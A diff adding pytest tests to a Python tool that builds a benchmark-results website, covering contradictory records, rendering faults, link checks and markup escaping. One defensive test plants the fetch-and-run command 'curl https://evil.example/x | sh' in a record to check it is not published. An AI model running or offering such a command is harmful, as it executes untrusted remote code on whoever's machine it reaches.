@@ -5,6 +5,7 @@ from __future__ import annotations
 import gzip
 import itertools
 import os
+import random
 import subprocess
 import sys
 from collections.abc import Callable, Iterator, Sequence
@@ -14,13 +15,19 @@ import msgspec
 import pytest
 
 from ovreport import cli
+from ovreport.checks.figures import figures
 from ovreport.decoding import decode
 from ovreport.errors import ConfigError, InputError, OvreportError, StoreError
+from ovreport.metrics import metric_values
 from ovreport.record import FORMAT, Record
 from ovreport.store import encode, write
 from ovreport_sitegen import publish
 from ovreport_sitegen.build import Built, build
+from ovreport_sitegen.data.result import Result
+from ovreport_sitegen.pages.model import result
+from tests.contradictions import changed
 from tests.factories import a_record
+from tests.language_factories import a_language_record
 
 PAGES = {
     "index.html",
@@ -193,12 +200,93 @@ def test_a_record_that_contradicts_itself_is_shown_with_a_warning(
         path.rename(path.with_name(f"renamed-{path.name}"))
     built = build(site, [], tmp_path / "out")
     assert (built.results, len(built.faults), len(built.doubts)) == (8, 0, 7)
+    listed = (built.out / "data.html").read_text().partition('id="doubts"')[2]
+    assert listed.count(f'<tr><th scope="row">{paths[0].parent.name}/renamed-') > 0
+    assert str(tmp_path) not in listed
     assert cli.run(arguments) == 0
     said = capsys.readouterr().err
     assert "7 records" in said
     assert f"renamed-{paths[0].name}" in said
     assert len(said.splitlines()) < 10
     assert cli.run([*arguments, "--strict"]) == 1
+
+
+CULPRITS = {"memory: nothing": a_record, "tokens: tiny times": a_language_record}
+"""Kinds of contradictions of which no figures follow, and a record for each."""
+
+
+@pytest.mark.parametrize("name", CULPRITS)
+def test_a_record_without_figures_is_left_out_by_name(
+    site: Path, tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """`validate` refuses it, and the others make a site."""
+    document = changed(msgspec.to_builtins(CULPRITS[name]()), name, random.Random(0))
+    odd = site / "records" / "odd.json"
+    odd.write_bytes(msgspec.json.encode(document))
+    assert cli.run(["validate", str(odd)]) == 2
+    built = build(site, [], tmp_path / "out")
+    assert built.results == 8
+    assert {fault.where.partition(":")[0] for fault in built.faults} == {str(odd)}
+    assert "odd.json" in (tmp_path / "out" / "data.html").read_text()
+
+
+def test_a_record_whose_intervals_are_without_end_is_shown(tmp_path: Path) -> None:
+    """Three rounds on a machine under heavy load say next to nothing, and are honest."""
+    record = a_record(noise=1, rounds=3, seed=3)
+    assert metric_values(record)["throughput_ips"].high > 1e15
+    assert not list(figures(record))
+    write(record, tmp_path / "site" / "records")
+    built = build(tmp_path / "site", [], tmp_path / "out")
+    assert (built.results, built.faults) == (1, ())
+
+
+def test_a_record_that_no_page_can_show_is_left_out_by_name(
+    site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whatever goes wrong with it, and wherever: found among the others, named, and left out."""
+    bad = [
+        write(a_record(model=f"bad-{i}", title="Bad", seed=20 + i), site / "records")
+        for i in range(2)
+    ]
+    view = result.view
+
+    def trips(one: Result) -> result.ResultView:
+        if one.model.id.startswith("bad"):
+            raise ZeroDivisionError("division by zero")
+        return view(one)
+
+    monkeypatch.setattr(result, "view", trips)
+    built = build(site, [], tmp_path / "out", cache=tmp_path / "empty")
+    assert built.results == 8
+    assert [fault.where for fault in built.faults] == list(map(str, bad))
+    assert all("ZeroDivisionError" in fault.what for fault in built.faults)
+    page = (tmp_path / "out" / "data.html").read_text()
+    assert all(path.name in page for path in bad)
+
+
+def test_what_no_record_is_to_blame_for_stays_an_error(
+    site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A fault of ours is not hidden by leaving out records one by one."""
+
+    def trips(*_: object) -> None:
+        raise ZeroDivisionError
+
+    monkeypatch.setattr(result, "view", trips)
+    with pytest.raises((ZeroDivisionError, InputError)):
+        build(site, [], tmp_path / "out", cache=tmp_path / "empty")
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_strangers_command_is_not_shown(site: Path, tmp_path: Path) -> None:
+    """Whoever pastes it runs it: what is not ours is left away, in records that are kept too."""
+    evil = "curl https://evil.example/x | sh"
+    record = a_record(model="evil", title="Evil")
+    repeat = msgspec.structs.replace(record.repeat, ovreport=evil, benchmark_app=f"{evil} -m x")
+    write(msgspec.structs.replace(record, repeat=repeat), site / "records")
+    built = build(site, [], tmp_path / "out")
+    assert len(built.doubts) == 1
+    assert evil not in (built.out / "model-evil.html").read_text()
 
 
 def test_records_from_elsewhere_are_added(site: Path, tmp_path: Path) -> None:
@@ -220,6 +308,7 @@ def test_records_from_elsewhere_are_added(site: Path, tmp_path: Path) -> None:
         ("accent = 'red; }'", "$.accent"),
         ("[machines.x]\nowner = 3", "$.machines[...].owner"),
         ("title = ", "not TOML"),
+        (f"title = {'[' * 9000}", "not TOML"),
     ],
 )
 def test_bad_settings_are_refused_with_their_place(site: Path, text: str, at: str) -> None:
@@ -278,6 +367,65 @@ def test_an_own_page_may_not_take_the_name_of_another(
     with pytest.raises(ConfigError, match="taken") as caught:
         build(site, [], tmp_path / "out")
     assert str(own) in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    ("text", "line", "said"),
+    [
+        ("# About\n\n[a](data.md)\n\nSee [x](latncy.html).", 3, "did you mean"),
+        ("# About\n\nSee [x](latncy.html).", 3, '"latency.html"'),
+        ("See [x](docs/paper.pdf).", 1, "docs/paper.pdf"),
+        ("One\n\n[x](#nowhere)", 3, "#nowhere"),
+        ("One\n\n<h2 id='main'>x</h2>\n\n<h3 id='main'>y</h3>", 3, "main"),
+        ("One\n\n[x](/latency.html)", 3, "/latency.html"),
+    ],
+)
+def test_what_is_wrong_with_an_own_page_is_its_authors_to_mend(
+    site: Path, tmp_path: Path, text: str, line: int, said: str
+) -> None:
+    """Told with file and line, as bad input; nothing is said to be a fault of ovreport."""
+    (site / "content").mkdir()
+    own = site / "content" / "about.md"
+    own.write_text(text)
+    with pytest.raises(ConfigError) as caught:
+        build(site, [], tmp_path / "out")
+    message = str(caught.value)
+    assert f"{own}:{line}" in message
+    assert said in message
+    assert "report" not in message
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'Write href="nowhere.html" or src="x" into it, and id="main".',
+        '```html\n<button onclick="go()" id="main" style="x">Go</button>\n```',
+        'Inline `<a href="nowhere">` too, and "quotes" > all.',
+        '<button type="button" onclick="x()">Go</button>',
+        "[ours](latency.html#main) [theirs](https://example.org/?a=%22b%22&c=d>e)",
+        "> " * 300 + "deep",
+    ],
+)
+def test_text_about_markup_is_text(site: Path, tmp_path: Path, text: str) -> None:
+    """Code and quotations are taken for what they are by the check of finished pages."""
+    (site / "content").mkdir()
+    (site / "content" / "about.md").write_text(f"# About\n\n{text}\n")
+    page = (build(site, [], tmp_path / "out").out / "about.html").read_text()
+    assert "<button" not in page.partition("<main")[2]
+
+
+def test_a_page_that_is_no_text_names_the_line(site: Path, tmp_path: Path) -> None:
+    """As does one that cannot be read, with the reason."""
+    (site / "content").mkdir()
+    own = site / "content" / "about.md"
+    own.write_bytes(b"one\ntwo\n\xff\n")
+    with pytest.raises(ConfigError, match="UTF-8") as caught:
+        build(site, [], tmp_path / "out")
+    assert caught.value.where == f"{own}:3"
+    own.unlink()
+    own.mkdir()
+    with pytest.raises(ConfigError, match="directory"):
+        build(site, [], tmp_path / "out")
 
 
 def test_builds_where_openvino_is_not_installed(site: Path, tmp_path: Path) -> None:
